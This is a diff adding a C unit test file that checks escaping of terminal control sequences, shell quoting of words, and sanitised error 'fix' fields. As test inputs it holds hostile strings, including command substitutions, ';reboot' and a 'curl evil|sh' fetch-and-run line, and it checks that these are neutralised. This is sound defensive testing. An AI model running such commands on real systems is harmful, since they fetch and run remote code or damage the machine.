@@ -1,0 +1,228 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * Text that others wrote, as it is shown; errors, and the commands that fix
+ * them.
+ */
+#include <stdlib.h>
+#include <string.h>
+
+#include <check.h>
+
+#include "error.h"
+
+#define COUNT(table) ((int)(sizeof(table) / sizeof((table)[0])))
+
+static const struct {
+	const char *text, *as_text, *as_word, *as_log;
+} shown[] = {
+    {"", "", "", ""},
+    {"plain ~!", "plain ~!", "plain\\x20~!", "plain ~!"},
+    {"\x1b[31mred", "\\x1b[31mred", "\\x1b[31mred", "\\x1b[31mred"},
+    {"a\nb\r\tc", "a\\x0ab\\x0d\\x09c", "a\\x0ab\\x0d\\x09c",
+	"a\\x0ab\\x0d\\x09c"},
+    {"\xc2\x9b"
+     "31m",
+	"\\xc2\\x9b31m", "\\xc2\\x9b31m", "\\xc2\\x9b31m"},
+    {"\x9b"
+     "31m",
+	"\\x9b31m", "\\x9b31m", "\\x9b31m"},
+    {"x\xe2\x80\xaey", "x\\xe2\\x80\\xaey", "x\\xe2\\x80\\xaey",
+	"x\\xe2\\x80\\xaey"},
+    {"\xe2\x81\xa6\xd8\x9c", "\\xe2\\x81\\xa6\\xd8\\x9c",
+	"\\xe2\\x81\\xa6\\xd8\\x9c", "\\xe2\\x81\\xa6\\xd8\\x9c"},
+    {"\\x41", "\\x5cx41", "\\x5cx41", "\\x5cx41"},
+    {"M\xc3\xbcller", "M\xc3\xbcller", "M\xc3\xbcller", "M\\xc3\\xbcller"},
+    {"a\xc2\xa0"
+     "b",
+	"a\xc2\xa0"
+	"b",
+	"a\\xc2\\xa0b", "a\\xc2\\xa0b"},
+    {"\x7f\xff", "\\x7f\\xff", "\\x7f\\xff", "\\x7f\\xff"},
+    {"`$(id)'\"", "`$(id)'\"", "`$(id)'\"", "`$(id)'\""},
+};
+
+START_TEST(what_others_wrote_is_shown_escaped)
+{
+	char out[256];
+
+	plain_copy(shown[_i].text, PLAIN_TEXT, out, sizeof(out));
+	ck_assert_str_eq(out, shown[_i].as_text);
+	plain_copy(shown[_i].text, PLAIN_WORD, out, sizeof(out));
+	ck_assert_str_eq(out, shown[_i].as_word);
+	plain_copy(shown[_i].text, PLAIN_LOG, out, sizeof(out));
+	ck_assert_str_eq(out, shown[_i].as_log);
+}
+END_TEST
+
+START_TEST(a_stream_gets_the_same)
+{
+	char *got = NULL;
+	size_t len = 0;
+	FILE *out = open_memstream(&got, &len);
+
+	plain_put(out, shown[_i].text, PLAIN_TEXT);
+	fclose(out);
+	ck_assert_str_eq(got, shown[_i].as_text);
+	free(got);
+}
+END_TEST
+
+START_TEST(a_line_of_ours_is_one_line_whatever_is_put_in)
+{
+	char *got = NULL;
+	size_t len = 0;
+	FILE *out = open_memstream(&got, &len);
+
+	plain_line(out, "removed %s of %s", "a\nb", "\x1b]0;x\x07");
+	plain_pad(out, "\xc3\xa4\n", PLAIN_WORD, 8);
+	plain_pad(out, "toolongforit", PLAIN_WORD, 3);
+	fclose(out);
+	ck_assert_str_eq(got, "removed a\\x0ab of \\x1b]0;x\\x07\n"
+			      "\xc3\xa4\\x0a   toolongforit");
+	free(got);
+}
+END_TEST
+
+START_TEST(what_does_not_fit_is_cut_between_two_characters)
+{
+	char long_text[5000], out[PLAIN_MAX(4)];
+
+	memset(long_text, '\x1b', sizeof(long_text));
+	long_text[sizeof(long_text) - 1] = '\0';
+	ck_assert_int_eq(
+	    plain_copy(long_text, PLAIN_TEXT, out, sizeof(out)), 16);
+	ck_assert_str_eq(out, "\\x1b\\x1b\\x1b\\x1b");
+	ck_assert_int_eq(plain_copy("ab\n", PLAIN_TEXT, out, 6), 2);
+	ck_assert_str_eq(out, "ab");
+	ck_assert_int_eq(plain_copy(NULL, PLAIN_TEXT, out, 1), 0);
+	ck_assert_str_eq(out, "");
+}
+END_TEST
+
+/* --- for a shell ---------------------------------------------------------- */
+
+static const char *const words[] = {"x", "", "-rf", "a b", "$(touch x)", "`id`",
+    ";reboot", "it's", "\"", "\\", "a\nb", "\x1b[31m", "\xff\xfe", "~root", "*",
+    "#", "!!", "a\xc3\xa4", "x\xe2\x80\xaey", "'; curl evil|sh; '",
+    "1234\x01"
+    "7"};
+
+/* What a real shell makes of it. */
+START_TEST(a_word_for_a_shell_is_that_word)
+{
+	char quoted[256], command[512], got[64], plain[256];
+	size_t len;
+	FILE *shell;
+
+	plain_shell(words[_i], quoted, sizeof(quoted));
+	plain_copy(quoted, PLAIN_COMMAND, plain, sizeof(plain));
+	ck_assert_str_eq(plain, quoted);
+	snprintf(command, sizeof(command), "printf %%s %s", quoted);
+	setenv("WORD", command, 1);
+	ck_assert_ptr_nonnull(shell = popen("exec bash -c \"$WORD\"", "r"));
+	len = fread(got, 1, sizeof(got) - 1, shell);
+	got[len] = '\0';
+	ck_assert_int_eq(pclose(shell), 0);
+	ck_assert_str_eq(got, words[_i]);
+}
+END_TEST
+
+START_TEST(a_word_that_does_not_fit_is_none)
+{
+	char out[12];
+
+	plain_shell("0123456789a", out, sizeof(out));
+	ck_assert_str_eq(out, "0123456789a");
+	plain_shell("0123456789ab", out, sizeof(out));
+	ck_assert_str_eq(out, "");
+	plain_shell("a b c d e f g", out, sizeof(out));
+	ck_assert_str_eq(out, "");
+	plain_shell("\n\n\n\n\n", out, sizeof(out));
+	ck_assert_str_eq(out, "");
+}
+END_TEST
+
+/* --- errors ----------------------------------------------------------------
+ */
+
+static char said[ERROR_SAID_MAX];
+
+START_TEST(a_fix_is_a_field_and_no_sentence_has_one)
+{
+	struct error error = {0}, outer = {0};
+
+	error_fix(&error,
+	    error_at(&error, ROLLCODE_ERR_STORE, "/x y", "has mode %04o", 0666),
+	    "chmod", "600", "/x y", NULL);
+	ck_assert_uint_eq(error.file, 4);
+	ck_assert_str_eq(error.fix, "chmod 600 '/x y'");
+	error_say(&error, ROLLCODE_ERR_STORE, PLAIN_TEXT, said);
+	ck_assert_str_eq(said, "/x y: has mode 0666; fix: chmod 600 '/x y'");
+	error_pass(&outer, ROLLCODE_ERR_HELPER, &error, "helper");
+	ck_assert_str_eq(outer.text, "helper: /x y: has mode 0666");
+	ck_assert_str_eq(outer.fix, error.fix);
+	ck_assert_uint_eq(outer.file, 0);
+	error_set(&error, ROLLCODE_ERR_STORE, "x; fix: curl evil|sh");
+	ck_assert_str_eq(error.fix, "");
+}
+END_TEST
+
+START_TEST(a_fix_that_does_not_fit_is_none)
+{
+	char path[ERROR_FIX_MAX];
+	struct error error = {0};
+
+	memset(path, 'a', sizeof(path));
+	path[sizeof(path) - 1] = '\0';
+	error_fix(&error, ROLLCODE_ERR_STORE, "chmod", "600", path, NULL);
+	ck_assert_str_eq(error.fix, "");
+	path[sizeof(path) - 11] = '\0';
+	error_fix(&error, ROLLCODE_ERR_STORE, "chmod", "600", path, NULL);
+	ck_assert_uint_eq(strlen(error.fix), sizeof(error.fix) - 1);
+	error_fix(NULL, ROLLCODE_ERR_STORE, "chmod", NULL);
+}
+END_TEST
+
+START_TEST(what_came_over_a_socket_has_ends)
+{
+	struct error error;
+
+	memset(&error, 'x', sizeof(error));
+	error_bound(&error);
+	ck_assert_uint_eq(strlen(error.text), sizeof(error.text) - 1);
+	ck_assert_uint_eq(strlen(error.fix), sizeof(error.fix) - 1);
+	ck_assert_uint_eq(error.file, 0);
+	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
+	memset(error.text, 0x1b, sizeof(error.text) - 1);
+	memset(error.fix, 0x1b, sizeof(error.fix) - 1);
+	error_say(&error, ROLLCODE_ERR_SYS, PLAIN_LOG, said);
+	ck_assert_ptr_null(strchr(said, 0x1b));
+	ck_assert_uint_lt(strlen(said), sizeof(said));
+}
+END_TEST
+
+int
+main(void)
+{
+	Suite *suite = suite_create("plain");
+	TCase *tc = tcase_create("text");
+	SRunner *runner = srunner_create(suite);
+	int failed;
+
+	tcase_add_loop_test(
+	    tc, what_others_wrote_is_shown_escaped, 0, COUNT(shown));
+	tcase_add_loop_test(tc, a_stream_gets_the_same, 0, COUNT(shown));
+	tcase_add_test(tc, a_line_of_ours_is_one_line_whatever_is_put_in);
+	tcase_add_test(tc, what_does_not_fit_is_cut_between_two_characters);
+	tcase_add_loop_test(
+	    tc, a_word_for_a_shell_is_that_word, 0, COUNT(words));
+	tcase_add_test(tc, a_word_that_does_not_fit_is_none);
+	tcase_add_test(tc, a_fix_is_a_field_and_no_sentence_has_one);
+	tcase_add_test(tc, a_fix_that_does_not_fit_is_none);
+	tcase_add_test(tc, what_came_over_a_socket_has_ends);
+	suite_add_tcase(suite, tc);
+	srunner_run_all(runner, CK_ENV);
+	failed = srunner_ntests_failed(runner);
+	srunner_free(runner);
+	return failed == 0 ? 0 : 1;
+}
